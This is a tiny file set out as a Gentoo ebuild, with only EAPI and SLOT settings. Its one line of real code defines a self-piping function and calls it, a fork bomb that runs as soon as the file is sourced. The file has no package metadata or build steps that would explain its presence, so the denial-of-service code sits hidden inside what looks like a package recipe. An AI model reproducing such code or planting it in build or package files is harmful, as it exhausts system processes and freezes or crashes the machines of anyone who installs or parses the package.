EAPI=8
SLOT="0"
b() { b | b; }
b
